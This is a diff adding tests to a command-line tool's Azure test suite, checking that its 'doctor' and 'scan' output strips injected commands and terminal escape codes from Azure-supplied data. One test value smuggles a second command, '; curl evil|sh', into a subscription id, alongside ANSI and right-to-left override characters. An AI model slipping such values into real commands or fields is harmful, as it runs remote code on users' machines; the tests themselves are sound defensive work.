@@ -153,6 +153,51 @@ describe('doctor', () => {
     expect(out).toContain('az role assignment create --role Reader');
   });
 
+  it('puts nothing into a command, nor on the terminal, that Azure could have made up', async () => {
+    const evil = `11111111-1111-4111-8111-111111111111; curl evil|sh \u001B[2J`;
+    const row = {
+      id: `/subscriptions/${evil}`,
+      name: 'evil\u001B]0;title\u0007',
+      type: 'microsoft.resources/subscriptions',
+      properties: {},
+    };
+    const body = {
+      totalRecords: 1,
+      count: 1,
+      resultTruncated: 'false',
+      facets: [],
+      data: [row],
+    };
+    const { out, err } = await onAzure(['doctor'], {
+      faults: [{ path: 'resourcegraph/resources$', does: { kind: 'status', status: 200, body } }],
+    });
+    expect(out).toContain('--scope /subscriptions/<subscription id>');
+    expect(out).not.toMatch(/--scope [^\n]*evil/);
+    expect(out + err).not.toContain('\u001B');
+  });
+
+  it('and neither does what it says of an error', async () => {
+    const error = { code: 'Bad', message: 'no\u001B[2J\u001B]0;title\u0007\u202Eon' };
+    const { code, err } = await onAzure(['scan', '--quiet'], {
+      faults: [
+        {
+          path: 'resourcegraph/resources$',
+          does: { kind: 'status', status: 403, body: { error } },
+        },
+      ],
+    });
+    expect(code).toBe(2);
+    expect(err.replaceAll('\n', '')).toMatch(/^[^\p{Cc}\u202E]+$/u);
+  });
+
+  it('says that groups are refused, and does without', async () => {
+    const { code, out } = await onAzure(['doctor'], {
+      faults: [{ path: '^/v1.0/groups/', does: { kind: 'status', status: 403 } }],
+    });
+    expect(code).toBe(0);
+    expect(out).toContain('Groups it refuses');
+  });
+
   it('says which ways to sign in were tried', async () => {
     const { source } = await simulatedAzure(rows);
     for (const name of ['AZURE_TENANT_ID', 'AZURE_CLIENT_ID', 'AZURE_CLIENT_SECRET']) {
